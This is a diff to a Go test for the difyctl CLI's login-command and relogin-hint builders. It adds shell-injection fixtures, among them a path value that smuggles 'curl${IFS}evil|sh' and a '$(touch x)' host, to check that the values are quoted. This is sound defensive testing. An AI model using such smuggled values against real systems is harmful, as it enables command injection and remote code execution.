@@ -302,9 +302,26 @@ func TestLoginCommandFor(t *testing.T) {
 		{hostEntry{Host: "127.0.0.1:18001", Scheme: "http"}, "difyctl auth login --host http://127.0.0.1:18001 --insecure"},
 		{hostEntry{Host: "example.com", Path: "/dify"}, "difyctl auth login --host https://example.com/dify"},
 		{hostEntry{Host: "self.signed:8443", InsecureTLS: true}, "difyctl auth login --host self.signed:8443 --insecure"},
+		// hosts.yml may have been edited: what the shell would read is quoted.
+		{hostEntry{Host: "dify.example.com", Path: "/dify;curl${IFS}evil|sh;#"}, `difyctl auth login --host 'https://dify.example.com/dify;curl${IFS}evil|sh;#'`},
+		{hostEntry{Host: "$(touch x)"}, `difyctl auth login --host '$(touch x)'`},
+		{hostEntry{Host: "[::1]:8080", Scheme: "http"}, `difyctl auth login --host 'http://[::1]:8080' --insecure`},
 	} {
 		if got := loginCommandFor(&c.e); got != c.want {
 			t.Errorf("%+v: %q, want %q", c.e, got, c.want)
+		}
+	}
+	// A quoted word is not put between the hint's own quotes, which would
+	// unquote it for whoever pastes those too.
+	for _, c := range []struct {
+		e    hostEntry
+		want string
+	}{
+		{hostEntry{Host: "cloud.dify.ai"}, "run 'difyctl auth login --host cloud.dify.ai' to sign in again"},
+		{hostEntry{Host: "dify.example.com", Path: "/a;b"}, "run difyctl auth login --host 'https://dify.example.com/a;b' to sign in again"},
+	} {
+		if got := reloginHint(&c.e); got != c.want {
+			t.Errorf("%+v: hint %q, want %q", c.e, got, c.want)
 		}
 	}
 }
